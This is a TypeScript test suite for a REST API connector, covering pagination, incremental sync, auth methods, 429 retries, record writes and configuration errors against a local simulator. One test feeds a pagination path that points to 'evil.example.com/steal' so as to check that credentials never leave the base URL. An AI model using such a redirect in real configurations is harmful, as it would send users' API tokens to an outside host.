import { afterEach, describe, expect, it } from 'vitest';
import { AuthError, ConfigError, Conflict, ValidationError } from '../http/errors';
import { PacerRegistry } from '../http/pacing';
import { openConnection } from '../runtime';
import type { ConnectionContext, CredentialSchema, SyncRecord } from '../types';
import { testConnection } from '../../server/connections/test-connection';
import { rest } from './index';
import { type RestSimulator, type RestSimulatorOptions, startRestSimulator } from './simulator';

const running: RestSimulator[] = [];
afterEach(async () => {
  await Promise.all(running.splice(0).map((s) => s.close()));
});

async function sim(options: RestSimulatorOptions = {}) {
  const s = await startRestSimulator(options);
  running.push(s);
  return s;
}

let seq = 0;
function connect(s: RestSimulator, products: Record<string, unknown>, credentials: Record<string, string> = {}, extra: Record<string, unknown> = {}): ConnectionContext {
  return openConnection(
    { id: `rest-test-${++seq}`, provider: 'rest', baseUrl: s.baseUrl, credentials, settings: { rateLimit: { requestsPerSecond: 0 }, ...extra, entities: { products } } },
    new PacerRegistry(),
  ).ctx;
}

async function readAll(ctx: ConnectionContext, batchSize = 100, since: string | null = null) {
  const records: SyncRecord[] = [];
  let cursor: string | null = null;
  let batches = 0;
  do {
    const page = await rest.entities.products!.read!.read(ctx, { cursor, since, batchSize });
    records.push(...page.records);
    cursor = page.nextCursor;
    batches++;
  } while (cursor);
  return { records, batches };
}

const base = { listPath: '/products', itemsPath: 'data', skuPath: 'sku', sinceParam: 'updated_since' };

describe('reading with each pagination style', () => {
  const styles: Array<[string, RestSimulatorOptions, Record<string, unknown>]> = [
    ['page number, ending at an empty page', { pagination: 'page' }, { pagination: { style: 'page', pageParam: 'page', sizeParam: 'per_page', size: 30 } }],
    ['offset/limit, ending at the total', { pagination: 'offset' }, { pagination: { style: 'offset', offsetParam: 'offset', limitParam: 'limit', limit: 30, totalPath: 'meta.total' } }],
    ['a next URL in the body', { pagination: 'next' }, { pagination: { style: 'next', nextPath: 'links.next', sizeParam: 'per_page', size: 30 } }],
    ['the Link header', { pagination: 'link' }, { pagination: { style: 'link', sizeParam: 'limit', size: 30 } }],
    ['a cursor token in the body', { pagination: 'cursor' }, { pagination: { style: 'cursor', cursorPath: 'meta.next_cursor', cursorParam: 'cursor', sizeParam: 'limit', size: 30 } }],
  ];

  for (const [name, simOptions, settings] of styles) {
    it(`reads every record once by ${name}, in batches that resume from the cursor`, async () => {
      const s = await sim(simOptions);
      s.seed('products', 205);
      const { records, batches } = await readAll(connect(s, { ...base, ...settings }), 50);
      expect(records).toHaveLength(205);
      expect(new Set(records.map((r) => r.key)).size).toBe(205);
      expect(batches).toBeGreaterThanOrEqual(3);
      expect(records[0]).toMatchObject({ key: '1001', sku: 'REST-00000', data: { name: 'Item 0', price: 10 } });
    });
  }

  it('reads only what changed since the last run, also when the next pages are opaque links', async () => {
    for (const pagination of [{ style: 'page', sizeParam: 'per_page', size: 3 }, { style: 'link', sizeParam: 'limit', size: 3 }]) {
      const s = await sim({ pagination: pagination.style as 'page' | 'link' });
      s.seed('products', 120);
      const since = new Date(Date.parse([...s.collection('products').values()].at(-1)!.updated_at) + 1).toISOString();
      for (const id of [1005, 1050, 1080, 1081, 1100, 1110]) s.touch('products', id, { price: 1 });
      // Pages of 3: the link style's second page is an opaque page_info URL that refuses filters beside it.
      const { records } = await readAll(connect(s, { ...base, pagination }), 2, since);
      expect(records.map((r) => r.key)).toEqual(['1005', '1050', '1080', '1081', '1100', '1110']);
    }
  });

  it('finds the items at the body root or by a JSONata path, and the id and SKU at nested paths', async () => {
    const bare = await sim({ envelope: null });
    bare.seed('products', 3, (i) => ({ info: { code: `N-${i}` }, name: `Bare ${i}` }));
    const root = await readAll(connect(bare, { listPath: '/products', skuPath: 'info.code' }));
    expect(root.records.map((r) => r.sku)).toEqual(['N-0', 'N-1', 'N-2']);

    const enveloped = await sim();
    enveloped.seed('products', 4, (i) => ({ sku: `J-${i}`, active: i % 2 === 0 }));
    const filtered = await readAll(connect(enveloped, { listPath: '/products', itemsPath: 'data[active]', skuPath: '"X-" & sku' }));
    expect(filtered.records.map((r) => r.sku)).toEqual(['X-J-0', 'X-J-2']);
  });

  it('stops with a clear message when the API ignores the page parameter, instead of reading forever', async () => {
    const s = await sim({ pagination: 'page' });
    s.seed('products', 50);
    const err = await readAll(connect(s, { ...base, pagination: { style: 'page', pageParam: 'pagina' } }), 500).catch((e) => e);
    expect(err).toBeInstanceOf(ConfigError);
    expect(err.message).toMatch(/same records as the page before: it does not understand the "pagina" parameter/);
  });

  it('refuses to follow a next link to another server, so credentials never leave the base URL', async () => {
    const s = await sim({ pagination: 'next', auth: { type: 'bearer', token: 'tok-123456' } });
    s.seed('products', 40);
    const ctx = connect(s, { ...base, pagination: { style: 'next', nextPath: '"https://evil.example.com/steal?x=" & $string(links.next)' } }, { token: 'tok-123456' });
    const err = await readAll(ctx).catch((e) => e);
    expect(err).toBeInstanceOf(ConfigError);
    expect(err.message).toMatch(/outside the connection's base URL/);
    expect(s.stats.requests).toBe(1);
  });

  it('rides out a burst of 429s, waiting as long as Retry-After says, and loses nothing', async () => {
    const s = await sim({ pagination: 'page', retryAfterSeconds: 0.05 });
    s.seed('products', 90);
    s.scheduleBurst(1, 3);
    const { records } = await readAll(connect(s, { ...base, pagination: { style: 'page', sizeParam: 'per_page', size: 30 } }));
    expect(s.stats.throttled).toBe(3);
    expect(records).toHaveLength(90);
    expect(new Set(records.map((r) => r.key)).size).toBe(90);
  });
});

describe('authentication', () => {
  const cases: Array<[string, RestSimulatorOptions['auth'], Record<string, string>, (s: RestSimulator) => void]> = [
    ['a Bearer token', { type: 'bearer', token: 'tok-abc' }, { authType: 'bearer', token: 'tok-abc' }, (s) => expect(s.log.at(-1)!.authorization).toBe('Bearer tok-abc')],
    [
      'HTTP Basic',
      { type: 'basic', username: 'loja', password: 's3nh@' },
      { username: 'loja', password: 's3nh@' },
      (s) => expect(s.log.at(-1)!.authorization).toBe(`Basic ${Buffer.from('loja:s3nh@').toString('base64')}`),
    ],
    ['an API key header', { type: 'apiKeyHeader', name: 'X-Api-Token', key: 'k-1' }, { authType: 'apiKeyHeader', apiKey: 'k-1', apiKeyName: 'X-Api-Token' }, (s) => expect(s.log.at(-1)!.apiKeyHeader).toBe('k-1')],
    ['an API key query parameter', { type: 'apiKeyQuery', name: 'chave', key: 'k-2' }, { authType: 'apiKeyQuery', apiKey: 'k-2', apiKeyName: 'chave' }, (s) => expect(s.log.at(-1)!.url).toMatch(/[?&]chave=k-2/)],
    ['nothing', { type: 'none' }, {}, (s) => expect(s.log.at(-1)!.authorization).toBeUndefined()],
  ];

  for (const [name, auth, credentials, sent] of cases) {
    it(`sends ${name} on every request, next pages included`, async () => {
      const s = await sim({ auth, pagination: 'link' });
      s.seed('products', 25);
      const { records } = await readAll(connect(s, { ...base, pagination: { style: 'link', sizeParam: 'limit', size: 10 } }, credentials));
      expect(records).toHaveLength(25);
      expect(s.log.filter((l) => l.url.includes('page_info'))).toHaveLength(2);
      sent(s);
    });
  }

  it('stops the run on refused credentials, and "Testar conexão" says so without showing them', async () => {
    const s = await sim({ auth: { type: 'bearer', token: 'right-token' } });
    s.seed('products', 1);
    const err = await readAll(connect(s, base, { token: 'wrong-token' })).catch((e) => e);
    expect(err).toBeInstanceOf(AuthError);
    const conn = { id: 'rest-t', provider: 'rest', baseUrl: s.baseUrl, settings: { entities: { products: base } } };
    const ok = await testConnection({ ...conn, credentials: { token: 'right-token' } });
    expect(ok).toMatchObject({ ok: true, status: 200 });
    expect(s.log.at(-1)!.url).toBe('/api/v1/products');
    const refused = await testConnection({ ...conn, credentials: { token: 'wrong-token' } });
    expect(refused.diagnosis.code).toBe('auth');
    expect(JSON.stringify(refused)).not.toContain('wrong-token');
  });

  it('marks every secret credential and explains them in Portuguese', () => {
    const props: CredentialSchema['properties'] = rest.credentialSchema.properties;
    expect(Object.entries(props).filter(([, p]) => p.secret).map(([k]) => k)).toEqual(['token', 'password', 'apiKey']);
    expect(rest.credentialHelp).toMatch(/Chave de API/);
  });
});

describe('writing', () => {
  const writable = { ...base, skuQueryParam: 'sku', updateMethod: 'PATCH' };

  it('creates a record with its SKU, finds it by SKU, gets it and updates it', async () => {
    const s = await sim({ requiredFields: ['name'] });
    const ctx = connect(s, writable);
    const writer = rest.entities.products!.write!;
    const { externalId } = await writer.create(ctx, { data: { name: 'Cadeira', price: 199.9 }, sku: 'CAD-1' });
    expect(s.collection('products').get(Number(externalId))).toMatchObject({ name: 'Cadeira', price: 199.9, sku: 'CAD-1' });
    await writer.create(ctx, { data: { name: 'Cadeira gamer' }, sku: 'CAD-10' });
    expect(await writer.findBySku!(ctx, 'CAD-1')).toBe(externalId);
    expect(await writer.findBySku!(ctx, 'CAD-2')).toBeNull();

    await writer.update(ctx, externalId, { data: { price: 149.9 }, sku: 'CAD-1' });
    expect(s.collection('products').get(Number(externalId))).toMatchObject({ name: 'Cadeira', price: 149.9, sku: 'CAD-1' });
    expect(s.log.at(-1)!.method).toBe('PATCH');
    expect(await rest.entities.products!.get!(ctx, externalId)).toMatchObject({ key: externalId, sku: 'CAD-1', data: { name: 'Cadeira', price: 149.9 } });
    expect(await rest.entities.products!.get!(ctx, '999999')).toBeNull();
  });

  it('wraps bodies in an envelope, stamps the SKU at a nested field, and takes the id from Location when the body has none', async () => {
    const s = await sim({ envelope: null });
    const ctx = connect(s, { listPath: '/items', createPath: '/items', bodyEnvelope: 'item', skuField: 'attributes.sku', idPath: 'uuid', itemPath: '$' });
    const { externalId } = await rest.entities.products!.write!.create(ctx, { data: { name: 'Mesa', attributes: { color: 'azul' } }, sku: 'MESA-1' });
    const stored = s.collection('items').get(Number(externalId))!;
    expect(stored).toMatchObject({ item: { name: 'Mesa', attributes: { color: 'azul', sku: 'MESA-1' } } });
  });

  it('fails only the record on 422 and 409, with the API\'s own message', async () => {
    const s = await sim({ requiredFields: ['name', 'price'], uniqueFields: ['sku'] });
    const ctx = connect(s, writable);
    const writer = rest.entities.products!.write!;
    const invalid = await writer.create(ctx, { data: { name: 'Sem preço' }, sku: 'A' }).catch((e) => e);
    expect(invalid).toBeInstanceOf(ValidationError);
    expect(invalid.message).toMatch(/POST \/products answered 422: Validation failed — price: is required/);
    await writer.create(ctx, { data: { name: 'A', price: 1 }, sku: 'DUP' });
    const dup = await writer.create(ctx, { data: { name: 'B', price: 2 }, sku: 'DUP' }).catch((e) => e);
    expect(dup).toBeInstanceOf(Conflict);
    expect(dup.message).toMatch(/sku DUP is already used/);
  });

  it('names the setting that is missing or wrong', async () => {
    const s = await sim();
    const writer = rest.entities.products!.write!;
    await expect(writer.findBySku!(connect(s, base), 'X')).rejects.toThrow(/settings\.entities\.products\.skuQueryParam/);
    await expect(readAll(connect(s, { itemsPath: 'data' }))).rejects.toThrow(/settings\.entities\.products\.listPath is required/);
    await expect(readAll(connect(s, { listPath: 'products' }))).rejects.toThrow(/listPath must start with "\/"/);
    await expect(readAll(connect(s, { ...base, pagination: { style: 'scroll' } }))).rejects.toThrow(/pagination\.style must be one of page, offset, next, link, cursor, none/);
    await expect(readAll(connect(s, { ...base, itemsPath: 'data[' }))).rejects.toThrow(/itemsPath "data\[" is neither a dotted path/);
    await expect(readAll(connect(s, { listPath: '/products', sinceParam: undefined }), 10, '2026-01-01T00:00:00Z')).rejects.toThrow(/need settings\.entities\.products\.sinceParam/);
    await expect(readAll(connect(s, base, { authType: 'bearer' }))).rejects.toThrow(/credentials\.token is required/);
    s.seed('products', 1, () => ({ code: 'x' }));
    await expect(readAll(connect(s, { ...base, idPath: 'codigo' }))).rejects.toThrow(/has no id at "codigo" \(settings\.entities\.products\.idPath\)/);
    expect(s.stats.requests).toBe(1);
  });
});
